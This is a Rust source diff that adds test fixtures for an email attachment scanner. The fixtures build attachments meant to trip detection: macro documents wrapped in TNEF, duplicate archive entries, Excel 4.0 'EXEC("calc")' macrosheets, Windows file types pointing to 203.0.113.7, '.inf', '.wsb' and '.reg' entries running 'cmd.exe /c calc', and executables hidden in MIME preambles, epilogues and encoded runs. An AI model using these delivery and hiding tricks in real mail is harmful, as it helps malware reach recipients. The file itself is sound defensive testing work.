@@ -1092,6 +1092,33 @@ fn containers() -> Vec<Fixture> {
             "deliver",
             &[],
         ),
+        fx(
+            c,
+            "138-tnef-embedded-message-docm",
+            with_attachment(
+                "TR: Relance",
+                "application/ms-tnef",
+                "winmail.dat",
+                &tnef_embedded_message(
+                    "Relance facture",
+                    &tnef(&[("facture.docm", &docm("AutoOpen"))]),
+                ),
+            ),
+            q,
+            &["macro"],
+        ),
+        fx(
+            c,
+            "139-tnef-embedded-message-pdf",
+            with_attachment(
+                "TR: Convocation",
+                "application/ms-tnef",
+                "winmail.dat",
+                &tnef_embedded_message("Convocation", &tnef(&[("convocation.pdf", &pdf("", &[]))])),
+            ),
+            "deliver",
+            &[],
+        ),
     ]
 }
 
@@ -1324,6 +1351,360 @@ fn readings() -> Vec<Fixture> {
     ]
 }
 
+/// OOXML spreadsheet parts with a given main content type and extra parts.
+fn spreadsheet(main_type: &str, workbook: (&str, &[u8]), extra: &[(&str, &[u8])]) -> Vec<u8> {
+    let ct = format!(
+        r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/{}" ContentType="{main_type}"/></Types>"#,
+        workbook.0
+    );
+    let rels = format!(
+        r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="{}"/></Relationships>"#,
+        workbook.0
+    );
+    let mut entries: Vec<(&str, &[u8])> = vec![
+        ("[Content_Types].xml", ct.as_bytes()),
+        ("_rels/.rels", rels.as_bytes()),
+        workbook,
+    ];
+    entries.extend_from_slice(extra);
+    zip(&entries)
+}
+
+/// A BIFF8 workbook stream: BOF, one `BoundSheet8` of sheet type `dt`
+/// (0 worksheet, 1 Excel 4.0 macro sheet, [MS-XLS] §2.4.28), EOF.
+fn biff_workbook(dt: u8) -> Vec<u8> {
+    let mut v = Vec::new();
+    let mut record = |kind: u16, data: &[u8]| {
+        v.extend_from_slice(&kind.to_le_bytes());
+        v.extend_from_slice(&(data.len() as u16).to_le_bytes());
+        v.extend_from_slice(data);
+    };
+    record(
+        0x0809,
+        &[0x00, 0x06, 0x05, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
+    );
+    let mut sheet = vec![0, 0, 0, 0, 0, dt, 6, 0];
+    sheet.extend_from_slice(b"Feuil1");
+    record(0x0085, &sheet);
+    record(0x000a, &[]);
+    v
+}
+
+/// A DOS program without a PE header: a real `IMAGE_DOS_HEADER` (last
+/// page 0x90 bytes, 3 pages, 4 header paragraphs) and a stub.
+fn dos_program() -> Vec<u8> {
+    let mut v = vec![0u8; 0x200];
+    v[0..2].copy_from_slice(b"MZ");
+    v[2..4].copy_from_slice(&0x90u16.to_le_bytes());
+    v[4..6].copy_from_slice(&3u16.to_le_bytes());
+    v[8..10].copy_from_slice(&4u16.to_le_bytes());
+    v[0x40..0x44].copy_from_slice(&[0xb4, 0x4c, 0xcd, 0x21]);
+    v
+}
+
+/// A ZIP written as a stream (sizes and CRC in data descriptors after each
+/// entry, zeros in the local headers), as `zip -` and many servers do.
+fn zip_streamed(entries: &[(&str, &[u8])]) -> Vec<u8> {
+    use std::io::Write;
+    let mut w = zip::ZipWriter::new_stream(Vec::new());
+    let opts = zip::write::SimpleFileOptions::default()
+        .compression_method(zip::CompressionMethod::Deflated)
+        .last_modified_time(zip::DateTime::default());
+    for (name, data) in entries {
+        w.start_file(*name, opts).unwrap();
+        w.write_all(data).unwrap();
+    }
+    w.finish().unwrap().into_inner()
+}
+
+/// Replaces the first occurrence of `from` by `to` (same length).
+fn patch_first(mut bytes: Vec<u8>, from: &[u8], to: &[u8]) -> Vec<u8> {
+    let at = bytes.windows(from.len()).position(|w| w == from).unwrap();
+    bytes[at..at + to.len()].copy_from_slice(to);
+    bytes
+}
+
+/// More readings: gzip members, tar duplicates and trailing data, 7z
+/// duplicates, a ZIP whose local header disagrees with its directory, and
+/// the false-alarm markers with their real twins.
+fn more_readings() -> Vec<Fixture> {
+    let r = "reading";
+    let q = "quarantine";
+    let text = b"Compte rendu du conseil municipal\r\n".as_slice();
+    let xlsb_type = "application/vnd.ms-excel.sheet.binary.macroEnabled.main";
+    let workbook_bin: &[u8] = b"\x83\x01\x00\x84\x01\x00";
+    let vba = ole(
+        None,
+        &[
+            ("/VBA/_VBA_PROJECT", b"_VBA_PROJECT"),
+            ("/VBA/ThisWorkbook", b"Sub Workbook_Open()\r\nEnd Sub"),
+        ],
+    );
+    let xlsx_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
+    let wb: &[u8] = br#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Budget" sheetId="1"/></sheets></workbook>"#;
+    let macrosheet: &[u8] = br#"<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>"#;
+    let sheet_type = "application/vnd.ms-excel.sheet.binary.macroEnabled.12";
+    vec![
+        fx(r, "152-gzip-two-members-exe",
+            with_attachment("Rapport", "application/gzip", "rapport.txt.gz",
+                &[gzip("rapport.txt", text), gzip("setup.exe", &pe())].concat()),
+            q, &["executable", "archive_ambiguity"]),
+        fx(r, "153-gzip-one-member-text",
+            with_attachment("Rapport", "application/gzip", "rapport.txt.gz", &gzip("rapport.txt", text)),
+            "deliver", &[]),
+        fx(r, "154-tar-duplicate-eicar-first",
+            with_attachment("Archive", "application/x-tar", "pieces.tar", &tar(&[("lettre.txt", &eicar()), ("lettre.txt", text)])),
+            "reject", &["malware", "archive_ambiguity"]),
+        fx(r, "155-tar-duplicate-eicar-last",
+            with_attachment("Archive", "application/x-tar", "pieces.tar", &tar(&[("lettre.txt", text), ("lettre.txt", &eicar())])),
+            "reject", &["malware", "archive_ambiguity"]),
+        fx(r, "156-tar-after-end-marker-exe",
+            with_attachment("Archive", "application/x-tar", "pieces.tar",
+                &[tar(&[("lettre.txt", text)]), tar(&[("setup.exe", &pe())])].concat()),
+            q, &["executable", "archive_ambiguity"]),
+        fx(r, "157-tar-two-letters",
+            with_attachment("Archive", "application/x-tar", "pieces.tar", &tar(&[("a.txt", text), ("b.txt", text)])),
+            "deliver", &[]),
+        fx(r, "158-7z-duplicate-eicar",
+            with_attachment("Archive", "application/x-7z-compressed", "pieces.7z",
+                &sevenz(&[("lettre.txt", text), ("lettre.txt", &eicar())], None)),
+            "reject", &["malware", "archive_ambiguity"]),
+        fx(r, "159-zip-local-name-differs-exe",
+            with_attachment("Facture", "application/zip", "facture.zip",
+                &patch_first(zip(&[("facture.txt", &pe())]), b"facture.txt", b"facture.exe")),
+            q, &["executable", "type_mismatch", "archive_ambiguity"]),
+        fx(r, "160-zip-streamed-data-descriptors",
+            with_attachment("Factures", "application/zip", "factures.zip",
+                &zip_streamed(&[("a.pdf", &pdf("", &[])), ("b.txt", text)])),
+            "deliver", &[]),
+        fx(r, "161-xlsb-without-macros",
+            with_attachment("Budget", sheet_type, "budget.xlsb",
+                &spreadsheet(xlsb_type, ("xl/workbook.bin", workbook_bin), &[])),
+            "deliver", &[]),
+        fx(r, "162-xlsb-with-vba",
+            with_attachment("Budget", sheet_type, "budget.xlsb",
+                &spreadsheet(xlsb_type, ("xl/workbook.bin", workbook_bin), &[("xl/vbaProject.bin", &vba)])),
+            q, &["macro"]),
+        fx(r, "163-xlsx-excel4-macrosheet",
+            with_attachment("Budget", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "budget.xlsx",
+                &spreadsheet(xlsx_type, ("xl/workbook.xml", wb), &[("xl/macrosheets/sheet1.xml", macrosheet)])),
+            q, &["macro", "type_mismatch"]),
+        fx(r, "164-xls-excel4-macrosheet",
+            with_attachment("Budget", "application/vnd.ms-excel", "budget.xls",
+                &ole(None, &[("/Workbook", &biff_workbook(1))])),
+            q, &["macro"]),
+        fx(r, "165-xls-worksheet",
+            with_attachment("Budget", "application/vnd.ms-excel", "budget.xls",
+                &ole(None, &[("/Workbook", &biff_workbook(0))])),
+            "deliver", &[]),
+        fx(r, "166-mz-text",
+            with_attachment("Notes", "text/plain", "notes.txt",
+                "MZ Immobilier, zone artisanale des Pradeaux\r\nCompte rendu de visite du 12 novembre.\r\n".as_bytes()),
+            "deliver", &[]),
+        fx(r, "167-dos-program-as-txt",
+            with_attachment("Notes", "text/plain", "notes.txt", &dos_program()),
+            q, &["executable", "type_mismatch"]),
+    ]
+}
+
+/// Types Windows opens with a program that connects out or runs code: one
+/// by name (with its real content), and by content under a name that
+/// says nothing.
+fn dangerous_types() -> Vec<Fixture> {
+    let utf16 = |s: &str| -> Vec<u8> {
+        let mut v = vec![0xff, 0xfe];
+        for u in s.encode_utf16() {
+            v.extend_from_slice(&u.to_le_bytes());
+        }
+        v
+    };
+    let samples: Vec<(&'static str, Vec<u8>, &'static str)> = vec![
+        ("rdp", utf16("screen mode id:i:2\r\nfull address:s:assistance.example.net\r\nredirectdrives:i:1\r\ndrivestoredirect:s:*\r\n"), "shortcut"),
+        ("url", b"[InternetShortcut]\r\nURL=file://203.0.113.7/partage/facture.pdf.lnk\r\n".to_vec(), "shortcut"),
+        ("library-ms", br#"<?xml version="1.0" encoding="UTF-8"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\203.0.113.7\partage</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>"#.to_vec(), "shortcut"),
+        ("searchConnector-ms", br#"<?xml version="1.0" encoding="UTF-8"?><searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"><simpleLocation><url>https://203.0.113.7/dav/</url></simpleLocation></searchConnectorDescription>"#.to_vec(), "shortcut"),
+        ("appinstaller", br#"<?xml version="1.0" encoding="utf-8"?><AppInstaller xmlns="http://schemas.microsoft.com/appx/appinstaller/2018" Version="1.0.0.0" Uri="https://203.0.113.7/a.appinstaller"><MainPackage Name="Outil" Version="1.0.0.0" Publisher="CN=Outil" Uri="https://203.0.113.7/a.msix"/></AppInstaller>"#.to_vec(), "executable"),
+        ("application", br#"<?xml version="1.0" encoding="utf-8"?><asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1" manifestVersion="1.0"><deployment install="false" xmlns="urn:schemas-microsoft-com:asm.v2"><deploymentProvider codebase="https://203.0.113.7/outil.application"/></deployment></asmv1:assembly>"#.to_vec(), "executable"),
+        ("iqy", b"WEB\r\n1\r\nhttps://203.0.113.7/requete.php?id=1\r\n".to_vec(), "shortcut"),
+        ("slk", b"ID;P\r\nC;Y1;X1;K0;EEXEC(\"calc\")\r\nE\r\n".to_vec(), "shortcut"),
+        ("theme", b"[Theme]\r\nDisplayName=Mairie\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\203.0.113.7\\partage\\fond.jpg\r\n".to_vec(), "shortcut"),
+        ("inf", b"[Version]\r\nSignature=\"$Windows NT$\"\r\n[DefaultInstall]\r\nRunPreSetupCommands=Lancer\r\n[Lancer]\r\ncmd.exe /c calc\r\n".to_vec(), "script"),
+        ("settingcontent-ms", br#"<?xml version="1.0" encoding="UTF-8"?><PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation><DeepLink>%windir%\system32\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>"#.to_vec(), "script"),
+        ("jnlp", br#"<?xml version="1.0"?><jnlp spec="1.0+" codebase="https://203.0.113.7/"><resources><jar href="outil.jar"/></resources><application-desc main-class="Outil"/></jnlp>"#.to_vec(), "executable"),
+        ("wsb", b"<Configuration><LogonCommand><Command>cmd.exe /c calc</Command></LogonCommand></Configuration>".to_vec(), "script"),
+        ("reg", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"Outil\"=\"calc.exe\"\r\n".to_vec(), "script"),
+    ];
+    let by_name_only: Vec<(&'static str, Vec<u8>, &'static str)> = vec![
+        ("xll", pe(), "executable"),
+        ("mht", b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"x\"\r\n\r\n--x\r\nContent-Location: file:///C:/page.htm\r\nContent-Type: text/html\r\n\r\n<html><body>Facture</body></html>\r\n--x--\r\n".to_vec(), "script"),
+        ("diagcab", cab(), "script,unscannable_archive"),
+        ("search-ms", b"search-ms:query=facture&crumb=location:\\\\203.0.113.7\\partage".to_vec(), "shortcut"),
+    ];
+    let leak = |s: String| -> &'static str { Box::leak(s.into_boxed_str()) };
+    let cats = |c: &'static str| -> &'static [&'static str] {
+        Box::leak(c.split(',').collect::<Vec<_>>().into_boxed_slice())
+    };
+    let mut out = Vec::new();
+    let mut n = 170;
+    for (ext, bytes, category) in samples.iter().chain(&by_name_only) {
+        let name = format!("document.{ext}");
+        out.push(fx(
+            "dangerous",
+            leak(format!("{n}-{}-by-name", ext.to_ascii_lowercase())),
+            with_attachment("Document", "application/octet-stream", &name, bytes),
+            "quarantine",
+            cats(category),
+        ));
+        n += 1;
+    }
+    for (ext, bytes, category) in &samples {
+        out.push(fx(
+            "dangerous",
+            leak(format!("{n}-{}-by-content", ext.to_ascii_lowercase())),
+            with_attachment("Document", "application/octet-stream", "document", bytes),
+            "quarantine",
+            cats(category),
+        ));
+        n += 1;
+    }
+    out
+}
+
+/// Text that hides a file: encoded runs in bodies, preambles and
+/// epilogues, MIME structure that no header declares; each with a benign
+/// twin that stays delivered.
+fn hiding() -> Vec<Fixture> {
+    let h = "hiding";
+    let q = "quarantine";
+    let text = |body: &str| message("Document", &text_part(body));
+    let exe = pe();
+    let der: Vec<u8> = (0..600u32).map(|i| (i * 7 + 3) as u8).collect();
+    let inner_multipart = format!(
+        "--limite\r\n{}\r\n--limite--\r\n",
+        attachment("application/octet-stream", "outil.exe", &exe)
+    );
+    vec![
+        fx(
+            h,
+            "200-base64-run-exe-in-text",
+            text(&format!(
+                "Bonjour,\r\n\r\nvoici l'outil :\r\n\r\n{}\r\nCordialement",
+                b64(&exe)
+            )),
+            q,
+            &["executable"],
+        ),
+        fx(
+            h,
+            "201-pem-certificate-in-text",
+            text(&format!(
+                "Bonjour,\r\n\r\nvoici le certificat du serveur :\r\n\r\n-----BEGIN CERTIFICATE-----\r\n{}-----END CERTIFICATE-----\r\n\r\nCordialement",
+                b64(&der)
+            )),
+            "deliver",
+            &[],
+        ),
+        fx(
+            h,
+            "202-quoted-printable-undeclared-script",
+            message(
+                "Document",
+                "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\nSet s =3D CreateObject(=22WScript.Shell=22)=\r\n: s.Run =22calc=22, 0\r\n",
+            ),
+            q,
+            &["script"],
+        ),
+        fx(
+            h,
+            "203-quoted-printable-undeclared-letter",
+            message(
+                "Document",
+                "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\nBonjour, le caf=C3=A9 de la r=C3=A9union est offert par la mairie, =\r\nmerci de r=C3=A9pondre avant jeudi.\r\n",
+            ),
+            "deliver",
+            &[],
+        ),
+        fx(
+            h,
+            "204-uuencode-in-preamble",
+            message(
+                "Document",
+                &format!(
+                    "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n{}\r\n--b\r\n{}\r\n--b--\r\n",
+                    uuencode("outil.exe", &exe),
+                    text_part("Bonjour")
+                ),
+            ),
+            q,
+            &["executable", "mime_ambiguity"],
+        ),
+        fx(
+            h,
+            "205-base64-in-epilogue",
+            message(
+                "Document",
+                &format!(
+                    "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n{}\r\n--b--\r\n{}",
+                    text_part("Bonjour"),
+                    b64(&exe)
+                ),
+            ),
+            q,
+            &["executable", "mime_ambiguity"],
+        ),
+        fx(
+            h,
+            "206-undeclared-multipart-in-text",
+            text(&format!("Bonjour,\r\n{inner_multipart}")),
+            q,
+            &["executable", "mime_ambiguity"],
+        ),
+        fx(
+            h,
+            "207-letter-with-dash-lines",
+            text(
+                "Ordre du jour\r\n----------\r\n1. Budget\r\n2. Voirie\r\n\r\n-- \r\nLe secrétariat de mairie",
+            ),
+            "deliver",
+            &[],
+        ),
+        fx(
+            h,
+            "208-no-content-type-body-with-parts",
+            format!("{}\r\n{inner_multipart}", headers("Document")),
+            q,
+            &["executable", "mime_ambiguity"],
+        ),
+        fx(
+            h,
+            "209-multipart-with-base64-transfer-encoding",
+            message(
+                "Document",
+                &format!(
+                    "Content-Type: multipart/mixed; boundary=\"limite\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
+                    b64(inner_multipart.as_bytes())
+                ),
+            ),
+            q,
+            &["executable", "mime_ambiguity"],
+        ),
+        fx(
+            h,
+            "210-part-headers-run-into-body",
+            message(
+                "Document",
+                &format!(
+                    "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n{}\r\n--b\r\nContent-Type: application/octet-stream; name=\"outil.exe\"\r\nContent-Transfer-Encoding: base64\r\n{}--b--\r\n",
+                    text_part("Bonjour"),
+                    b64(&exe)
+                ),
+            ),
+            q,
+            &["executable", "mime_ambiguity"],
+        ),
+    ]
+}
+
 fn main() {
     let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/eml");
     let all: Vec<Fixture> = [
@@ -1335,6 +1716,9 @@ fn main() {
         budget(),
         containers(),
         readings(),
+        more_readings(),
+        dangerous_types(),
+        hiding(),
     ]
     .into_iter()
     .flatten()
